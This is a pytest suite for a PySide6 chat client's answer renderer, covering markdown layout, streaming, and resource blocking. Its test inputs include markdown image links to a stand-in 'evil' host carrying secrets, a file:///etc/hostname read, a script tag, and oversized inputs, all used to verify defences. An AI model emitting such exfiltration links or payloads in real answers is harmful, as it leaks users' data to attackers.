"""Answers are laid out while they stream, load nothing, and take limited time whatever they contain."""

from __future__ import annotations

import logging
from pathlib import Path

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtGui import QColor, QImage, QPalette, QTextCursor, QTextDocument, QTextFormat, QTextTable
from PySide6.QtWidgets import QWidget
from pytestqt.qtbot import QtBot

from glm4v_desktop.ui.chat.answer_text import AnswerText
from tests.ui.chat.acting import new_view

_MIXED = """# Head

The **net profit** rose, see [the report](http://a.b/c).
- one
- two

| item | 2023 | 2022 |
|---|---|---|
| revenue | 28,563.21 | 25,431.88 |
| profit | (62.17) | 85.33 |
After the table.

```python
def net(a):

    return a
```
> quoted

---

营业收入增长 12.3%。<b>literal</b> <script>alert(1)</script>
"""


def shown_answer(qtbot: QtBot, host: QWidget, text: str, size: int = 0) -> AnswerText:
    view = new_view(host)
    size = size or max(1, len(text))
    for at in range(0, len(text), size):
        view.add(text[at : at + size])
    with qtbot.waitSignal(view.settled, timeout=20_000):
        view.finish()
    return view


def plain(view: AnswerText) -> str:
    return view.toPlainText()


def document(view: AnswerText) -> QTextDocument:
    """The document of an answer that has only one section."""
    (section,) = view.sections
    return section.document()


def images(view: AnswerText) -> int:
    html = "".join(section.document().toHtml() for section in view.sections)
    return plain(view).count("\ufffc") + html.count("<img")


def tables(view: AnswerText) -> list[QTextTable]:
    return [frame for frame in document(view).rootFrame().childFrames() if isinstance(frame, QTextTable)]


@pytest.mark.parametrize("size", [1, 3, 7, 64])
def test_what_is_shown_does_not_depend_on_the_pieces(qtbot: QtBot, host: QWidget, size: int) -> None:
    assert (
        document(shown_answer(qtbot, host, _MIXED, size)).toHtml()
        == document(shown_answer(qtbot, host, _MIXED)).toHtml()
    )


def test_an_open_block_is_plain_and_a_closed_one_is_laid_out(qtbot: QtBot, host: QWidget) -> None:
    view = new_view(host)
    view.add("a **bold** word")
    assert plain(view) == "a **bold** word"
    view.add("\n\nnext **one")
    assert plain(view) == "a bold word\nnext **one"


def test_markdown_is_laid_out_and_html_stays_literal(qtbot: QtBot, host: QWidget) -> None:
    text = plain(shown_answer(qtbot, host, _MIXED))
    assert "<b>literal</b> <script>alert(1)</script>" in text
    assert "**" not in text
    assert "```" not in text
    assert "    return a" in text
    assert "\n\n\n" not in text


def test_tables_have_borders_and_figures_stand_at_the_right(qtbot: QtBot, host: QWidget) -> None:
    table = tables(shown_answer(qtbot, host, _MIXED))[0]
    assert (table.rows(), table.columns()) == (3, 3)
    assert table.format().border() > 0
    assert table.format().cellPadding() >= 4
    figure = table.cellAt(1, 1).firstCursorPosition().blockFormat()
    assert figure.alignment().name == "AlignRight"
    assert figure.nonBreakableLines()


def test_a_rule_stays_when_the_text_behind_it_closes(qtbot: QtBot, host: QWidget) -> None:
    width = QTextFormat.Property.BlockTrailingHorizontalRulerWidth
    view = shown_answer(qtbot, host, "one\n\n---\n\ntwo", 1)
    assert document(view).findBlockByNumber(1).blockFormat().hasProperty(width)


def test_headings_are_not_huge(qtbot: QtBot, host: QWidget) -> None:
    view = shown_answer(qtbot, host, "# One\n\ntext")
    heights = [document(view).findBlockByNumber(number).layout().boundingRect().height() for number in (0, 1)]
    assert 1.1 < heights[0] / heights[1] < 2.2


@pytest.mark.parametrize("width", [280, 330, 660])
def test_the_view_is_as_tall_as_its_text_and_wide_code_wraps(qtbot: QtBot, host: QWidget, width: int) -> None:
    view = shown_answer(qtbot, host, _MIXED + "\n```\n" + "wide " * 60 + "x" * 300 + "\n```\n")
    view.resize(width, view.height())
    assert view.height() >= document(view).size().height()
    assert view.sections[0].verticalScrollBar().maximum() == 0
    assert view.sections[0].horizontalScrollBar().maximum() == 0


@pytest.mark.parametrize(
    "text",
    [
        "![alt](http://evil/?d=secret)",
        "before ![alt](http://evil/?d=secret 'title') after",
        "[![alt](http://evil/i.png)](http://evil/)",
        "![alt][1]\n\n[1]: http://evil/?d=secret",
        '<img src="http://evil/">',
        "<link rel=stylesheet href=http://evil/x.css><style>body{background:url(http://evil/)}</style>",
        "![alt](//host/share/x.png)",
        "![alt](qrc:/x.png)",
        "![alt](data:image/png;base64," + "A" * 200_000 + ")",
        "| ![alt](http://evil/) |\n|---|\n| ![alt](file:///etc/hostname) |\n",
    ],
)
def test_nothing_is_ever_loaded(
    qtbot: QtBot, host: QWidget, caplog: pytest.LogCaptureFixture, text: str
) -> None:
    with caplog.at_level(logging.DEBUG):
        view = shown_answer(qtbot, host, text)
        view.grab()
    assert images(view) == 0
    assert [record for record in caplog.records if "resource" in record.message] == []


def test_a_local_picture_named_in_an_answer_is_not_shown(qtbot: QtBot, host: QWidget, tmp_path: Path) -> None:
    path = tmp_path / "red.png"
    image = QImage(64, 64, QImage.Format.Format_RGB32)
    image.fill(QColor("#ff0000"))
    image.save(str(path))
    for address in (path.as_uri(), str(path)):
        view = shown_answer(qtbot, host, f"![red]({address})")
        assert plain(view) == "[Picture: red]"
        seen = view.grab().toImage()
        colors = {seen.pixel(x, y) for x in range(0, seen.width(), 3) for y in range(seen.height())}
        assert QColor("#ff0000").rgba() not in colors


def test_the_documents_give_nothing_when_asked(qtbot: QtBot, host: QWidget, tmp_path: Path) -> None:
    view = shown_answer(qtbot, host, "x")
    path = tmp_path / "secret.txt"
    path.write_text("secret")
    url = QUrl.fromLocalFile(str(path))
    assert document(view).resource(2, url) is None
    assert view.sections[0].loadResource(2, url) is None


@pytest.mark.parametrize(
    "text",
    [
        ">" * 10_000 + " deep",
        "> " * 10_000 + "deep",
        "- " * 10_000 + "deep",
        "\n".join(" " * (2 * depth) + "- x" for depth in range(300)),
        "x" * 1_000_000,
        "```\n" + "code line\n" * 2000,
        "|" + "a|" * 3000 + "\n|" + "-|" * 3000 + "\n",
        "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 1000,
        "[" * 5000,
        "*a " * 3000,
        "`" * 5000,
        "\n" * 5000 + "end",
    ],
    ids=lambda text: repr(text[:8]),
)
def test_hostile_answers_are_shown_and_bounded(qtbot: QtBot, host: QWidget, text: str) -> None:
    view = shown_answer(qtbot, host, text)
    assert view.full_text == text
    assert 0 < len(plain(view)) < 400_000
    assert all(section.document().size().width() <= 410 for section in view.sections)


def test_a_long_answer_gives_the_event_loop_its_turn(qtbot: QtBot, host: QWidget) -> None:
    view = new_view(host)
    view.add("word " * 59_000)
    assert 0 < len(plain(view)) < 200_000
    view.finish()
    qtbot.waitUntil(lambda: len(plain(view)) > 290_000, timeout=20_000)


def test_more_than_anyone_reads_is_kept_but_not_shown(qtbot: QtBot, host: QWidget) -> None:
    view = new_view(host)
    with qtbot.waitSignal(view.shortened):
        view.add("a line of text\n" * 30_000)
    assert len(view.full_text) == 450_000


def test_hidden_characters_are_marked_and_copied_without(qtbot: QtBot, host: QWidget) -> None:
    view = shown_answer(qtbot, host, "```\nif admin\u202e: \x1b[31m\n```\n\nzero\u200bwidth")
    assert "admin⟨U+202E⟩" in plain(view)
    assert "⟨U+001B⟩[31m" in plain(view)
    assert "zero⟨U+200B⟩width" in plain(view)


def test_a_selection_is_copied_as_plain_text(qtbot: QtBot, host: QWidget) -> None:
    view = shown_answer(qtbot, host, "a **bold** word")
    view.sections[0].selectAll()
    data = view.sections[0].createMimeDataFromSelection()
    assert data.text() == "a bold word"
    assert not data.hasHtml()


def test_other_colors_lay_the_answer_out_again_and_keep_the_open_block(qtbot: QtBot, host: QWidget) -> None:
    view = new_view(host)
    view.add("one **two**\n\nthree **fo")
    before = plain(view)
    palette = QPalette(view.palette())
    palette.setColor(QPalette.ColorRole.Base, QColor("#202124"))
    palette.setColor(QPalette.ColorRole.Text, QColor("#eeeeee"))
    view.setPalette(palette)
    assert plain(view) == before
    seen = view.grab().toImage()
    assert QColor(seen.pixel(seen.width() - 1, 5)) == QColor("#202124")
    assert QTextCursor(document(view)).charFormat().foreground().color() in (
        QColor("#eeeeee"),
        QColor("#000000"),
    )
    view.add("ur**\n\n")
    assert plain(view) == "one two\nthree four"


def test_line_breaks_of_prose_and_quotes_are_kept(qtbot: QtBot, host: QWidget) -> None:
    answer = "营业收入 1\n**净利润** 2\nlast\n\n> one\n> two\n\n- item\n  goes on\n"
    view = shown_answer(qtbot, host, answer)
    assert plain(view) == "营业收入 1\n净利润 2\nlast\none\ntwo\nitem\ngoes on"
    assert document(view).blockCount() == 3


def test_every_bullet_stands_apart_from_its_text(qtbot: QtBot, host: QWidget) -> None:
    view = shown_answer(qtbot, host, "Said:\n\n- iii\n- iii\n")
    seen = view.grab().toImage()
    for number in (1, 2):
        block = document(view).findBlockByNumber(number)
        line = block.layout().lineAt(0)
        top = block.layout().position().y()
        text = int(block.layout().position().x() + line.x())
        middle = range(int(top + 0.4 * line.height()), int(top + 0.7 * line.height()))
        paper = seen.pixel(2, int(top))
        inked = [x for x in range(text - 1) if any(seen.pixel(x, y) != paper for y in middle)]
        assert inked
        assert text - max(inked) >= 6


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        (r"All of C:\new_folder\* is copied.", r"All of C:\new_folder\* is copied."),
        (r"See **D:\a_b\_c_\x.txt** and `E:\q\*`.", r"See D:\a_b\_c_\x.txt and E:\q\*."),
        (r"It is C:\\new\_folder\\\*, as printed.", r"It is C:\new_folder\*, as printed."),
        (r"- C:\[old]\!x" + "\n- second", "C:\\[old]\\!x\nsecond"),
    ],
)
def test_paths_keep_all_of_their_signs(qtbot: QtBot, host: QWidget, markdown: str, shown: str) -> None:
    assert plain(shown_answer(qtbot, host, markdown)) == shown
